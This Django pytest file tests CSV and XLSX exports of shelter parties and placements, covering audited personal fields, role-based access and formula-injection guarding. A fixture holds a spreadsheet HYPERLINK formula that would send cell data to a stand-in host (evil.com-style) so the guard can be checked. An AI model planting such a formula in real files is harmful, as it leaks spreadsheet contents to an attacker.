"""Exports of parties and placements, as CSV and XLSX: personal fields only when asked
(and then audited), every cell guarded against formula injection."""

import csv
import io

import openpyxl
import pytest

from arrivals.models import Placement, PlacementStatus
from privacy.models import AuditEntry
from spreadsheets.cells import FORMULA_START, cell_safe
from tests import factories

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def parties(city):
    shelter = factories.ShelterFactory(city=city, name="@School 12")
    space = factories.SpaceFactory(shelter=shelter, name="-Hall", beds=10)
    family = factories.PartyFactory(
        city=city,
        contact_phone="+7 701 555 0101",
        notes="+needs a cot",
        registration_point="\tStation",
        members=[
            {"given_name": EVIL, "family_name": "Nurlanova", "sex": "female"},
            {"given_name": "Dana", "family_name": "-Nurlanova", "age_group": "child"},
        ],
    )
    Placement.objects.create(
        party=family, space=space, beds=2, status=PlacementStatus.HELD, created_by="matcher"
    )
    alone = factories.PartyFactory(city=city, members=[{"given_name": "Ivan"}])
    factories.PartyFactory(members=[{"given_name": "Elsewhere"}])  # another city
    return family, alone


def get(client, path, city, fmt="csv", **params):
    return client.get(path, {"city": str(city.id), "format": fmt, **params})


def table(answer, fmt) -> list[list]:
    assert answer.status_code == 200, answer.content
    if fmt == "csv":
        assert answer["Content-Type"].startswith("text/csv")
        text = answer.content.decode("utf-8-sig")
        return list(csv.reader(io.StringIO(text)))
    assert answer["Content-Type"].startswith("application/vnd.openxmlformats")
    workbook = openpyxl.load_workbook(io.BytesIO(answer.content))
    sheet = workbook.active
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", cell.coordinate  # no formula in any cell
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_parties_without_personal_fields_by_default(coordinator_client, city, parties, fmt):
    answer = get(coordinator_client, "/api/v1/exports/parties/", city, fmt)
    rows = table(answer, fmt)
    header, body = rows[0], rows[1:]
    assert answer["Cache-Control"] == "no-store"
    assert f".{fmt}" in answer["Content-Disposition"]
    for name in ("given_name", "family_name", "contact_phone", "notes"):
        assert name not in header
    assert len(body) == 3  # one row per member of the city's parties
    flat = repr(rows)
    assert "Nurlanova" not in flat and "555" not in flat and "Ivan" not in flat
    assert not AuditEntry.objects.exists()


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_personal_fields_when_asked_and_audited(
    coordinator_client, coordinator, city, parties, fmt
):
    family, alone = parties
    rows = table(
        get(coordinator_client, "/api/v1/exports/parties/", city, fmt, personal="true"), fmt
    )
    header = rows[0]
    records = [dict(zip(header, row, strict=True)) for row in rows[1:]]
    dana = next(r for r in records if r["given_name"] == "Dana")
    assert dana["family_name"] == "'-Nurlanova"
    assert dana["contact_phone"] == "'+7 701 555 0101"  # a phone starting with + is guarded too
    assert dana["shelter"] == "'@School 12"
    # Reading the family's names and phone is in the audit trail, once, by the coordinator;
    # the party without any personal data has nothing to record.
    reads = AuditEntry.objects.filter(action="read", object_type="party")
    assert list(reads.values_list("object_id", "actor_id")) == [(str(family.id), coordinator.id)]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_no_exported_cell_starts_a_formula(coordinator_client, city, parties, fmt):
    for path, params in (
        ("/api/v1/exports/parties/", {"personal": "true"}),
        ("/api/v1/exports/placements/", {}),
    ):
        rows = table(get(coordinator_client, path, city, fmt, **params), fmt)
        cells = [cell for row in rows for cell in row if isinstance(cell, str)]
        assert cells
        assert not [cell for cell in cells if cell.startswith(FORMULA_START)], path
    rows = table(
        get(coordinator_client, "/api/v1/exports/parties/", city, fmt, personal="true"), fmt
    )
    assert f"'{EVIL}" in [cell for row in rows for cell in row]


def test_placements(coordinator_client, city, parties):
    family, _alone = parties
    rows = table(get(coordinator_client, "/api/v1/exports/placements/", city), "csv")
    records = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
    assert [(r["party"], r["space"], r["beds"], r["status"]) for r in records] == [
        (family.code, "'-Hall", "2", "held")
    ]
    rows = table(
        get(coordinator_client, "/api/v1/exports/placements/", city, status="ended"), "csv"
    )
    assert rows[1:] == []


def test_exports_are_for_the_citys_coordinators(
    volunteer_client, manager_client, other_coordinator_client, city, parties
):
    for path in ("/api/v1/exports/parties/", "/api/v1/exports/placements/"):
        assert get(volunteer_client, path, city).status_code == 403
        assert get(manager_client, path, city).status_code == 403
        assert get(other_coordinator_client, path, city).status_code == 404
    assert not AuditEntry.objects.exists()


def test_bad_queries_answer_400_in_json(coordinator_client, city):
    answer = coordinator_client.get("/api/v1/exports/parties/", {"city": "nope", "format": "xlsx"})
    assert answer.status_code == 400
    assert "city" in answer.json()
    for value in ("perhaps", "yes", ""):
        answer = get(coordinator_client, "/api/v1/exports/parties/", city, personal=value)
        assert answer.status_code == 400
        assert "personal" in answer.json()
    for value in ("true", "1", "false", "0"):
        answer = get(coordinator_client, "/api/v1/exports/parties/", city, personal=value)
        assert answer.status_code == 200
    assert get(coordinator_client, "/api/v1/exports/parties/", city, "pdf").status_code == 400


EXPORTS = ("parties", "placements", "capacity-history")


@pytest.mark.parametrize("path", EXPORTS)
def test_json_is_not_an_export_format(coordinator_client, city, parties, path):
    """An export is a file: `format=json` is a 400 naming csv and xlsx, an Accept of only
    JSON a 406, both in JSON and before anything is read (it answered 500 after the
    personal data had been audited as read)."""
    url = f"/api/v1/exports/{path}/"
    answer = get(coordinator_client, url, city, "json", personal="true")
    assert answer.status_code == 400, answer.content
    assert answer["Content-Type"] == "application/json"
    message = answer.json()["format"][0]
    assert "csv" in message and "xlsx" in message and "json" not in message
    answer = get(coordinator_client, url, city, "pdf")
    assert answer.status_code == 400
    assert "json" not in answer.json()["format"][0]
    answer = coordinator_client.get(
        url, {"city": str(city.id), "personal": "true"}, HTTP_ACCEPT="application/json"
    )
    assert answer.status_code == 406, answer.content
    assert answer["Content-Type"] == "application/json"
    assert answer.json()["detail"]
    assert not AuditEntry.objects.exists()


@pytest.mark.parametrize("path", EXPORTS)
def test_an_accept_that_prefers_json_but_takes_anything_gets_csv(
    coordinator_client, city, parties, path
):
    answer = coordinator_client.get(
        f"/api/v1/exports/{path}/",
        {"city": str(city.id)},
        HTTP_ACCEPT="application/json, text/plain, */*",  # axios' default
    )
    assert table(answer, "csv")[0]
    assert answer["Content-Disposition"].endswith('.csv"')
    # Its errors stay JSON, and OPTIONS still describes the path in JSON.
    answer = coordinator_client.get(
        f"/api/v1/exports/{path}/", {"city": "nope"}, HTTP_ACCEPT="application/json, */*"
    )
    assert answer.status_code == 400
    assert "city" in answer.json()
    answer = coordinator_client.options(f"/api/v1/exports/{path}/", HTTP_ACCEPT="application/json")
    assert answer.status_code == 200
    assert answer.json()["name"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+7 701", "'+7 701"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("Ivan", "Ivan"),
        ("", ""),
        (5, 5),
        (None, None),
    ],
)
def test_the_one_guard(value, expected):
    assert cell_safe(value) == expected


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_capacity_history(coordinator_client, volunteer_client, city, fmt):
    from datetime import UTC, datetime, timedelta

    from arrivals.models import CapacitySnapshot

    start = datetime(2022, 9, 23, 0, 0, tzinfo=UTC)
    for hour in range(3):
        CapacitySnapshot.objects.create(
            city=city,
            at=start + timedelta(hours=hour),
            beds=100,
            beds_free=100 - 10 * hour,
            beds_free_open=90 - 10 * hour,
            beds_held=5,
            beds_occupied=10 * hour,
            waiting_parties=hour,
            waiting_people=2 * hour,
        )
    params = {"from": "2022-09-22T00:00:00Z", "to": "2022-09-24T00:00:00Z"}
    rows = table(
        get(coordinator_client, "/api/v1/exports/capacity-history/", city, fmt, **params), fmt
    )
    assert rows[0][:3] == ["at", "beds", "beds_free"]
    assert [int(row[2]) for row in rows[1:]] == [100, 90, 80]
    answer = get(
        coordinator_client, "/api/v1/exports/capacity-history/", city, fmt, interval="day", **params
    )
    assert len(table(answer, fmt)) == 2  # the header and the day's last snapshot
    assert get(volunteer_client, "/api/v1/exports/capacity-history/", city).status_code == 403
    answer = get(coordinator_client, "/api/v1/exports/capacity-history/", city, interval="week")
    assert answer.status_code == 400
    for path in ("/api/v1/exports/parties/", "/api/v1/meals/report/"):
        answer = get(coordinator_client, path, city, "pdf")
        assert answer.status_code == 400
        assert "csv" in answer.json()["format"][0]
    answer = get(
        coordinator_client, "/api/v1/exports/capacity-history/", city, to="0001-01-03T00:00:00Z"
    )
    assert answer.status_code == 400
    assert "2000-01-01 and 2099-12-31" in answer.json()["to"][0]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_control_characters_stored_long_ago_do_not_break_an_export(coordinator_client, city, fmt):
    factories.PartyFactory(city=city, notes="bell\x07", members=[{"given_name": "A\x1bB"}])
    answer = get(coordinator_client, "/api/v1/exports/parties/", city, fmt, personal="true")
    assert answer.status_code == 200
    rows = table(answer, fmt)
    assert len(rows) == 2


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_an_exported_register_reads_back_as_an_import(coordinator, city, fmt):
    from django.core.files.uploadedfile import SimpleUploadedFile

    from tests.conftest import client_for

    from .conftest import upload

    factories.PartyFactory(
        city=city,
        contact_phone="+7 701 555 0101",  # exported as '+7 … (the guard), read back as typed
        members=[
            {"given_name": "Aigerim", "family_name": "-Nurlanova", "sex": "female"},
            {"given_name": "Dana", "age_group": "child"},
        ],
    )
    shelter = factories.ShelterFactory(city=city)
    placed = factories.PartyFactory(city=city, members=[{"given_name": "Ivan", "sex": "male"}])
    Placement.objects.create(
        party=placed,
        space=factories.SpaceFactory(shelter=shelter),
        beds=1,
        status=PlacementStatus.HELD,
        created_by="matcher",
    )
    other = factories.CityFactory()
    client = client_for(factories.member("coordinator", cities=[city, other]))
    exported = get(client, "/api/v1/exports/parties/", city, fmt, personal="true")
    assert exported.status_code == 200
    file = SimpleUploadedFile(f"register.{fmt}", exported.content)
    job = upload(client, other, "parties", file).json()
    assert job["status"] == "checked", job
    assert job["errors"] == [] and job["summary"] == {"created": 2}


def test_an_export_imported_into_its_own_city_is_refused(coordinator_client, city):
    """An export's `party` is the Berth code: read back into the same city it would
    register every party a second time (ghosts that were placed and held beds)."""
    from django.core.files.uploadedfile import SimpleUploadedFile

    from arrivals.models import Party

    from .conftest import upload

    inside = factories.PartyFactory(city=city, members=[{"given_name": "Ivan", "sex": "male"}])
    Party.objects.filter(id=inside.id).update(status="checked_in")
    exported = get(
        coordinator_client,
        "/api/v1/exports/parties/",
        city,
        "csv",
        personal="true",
        status="checked_in",
    )
    assert exported.status_code == 200
    file = SimpleUploadedFile("register.csv", exported.content)
    job = upload(coordinator_client, city, "parties", file).json()
    assert [(e["line"], e["column"]) for e in job["errors"]] == [(2, "party")], job
    assert inside.code in job["errors"][0]["message"]
    assert job["summary"] == {}
    assert coordinator_client.post(f"/api/v1/imports/{job['id']}/confirm/").status_code == 409
    assert Party.objects.filter(city=city).count() == 1
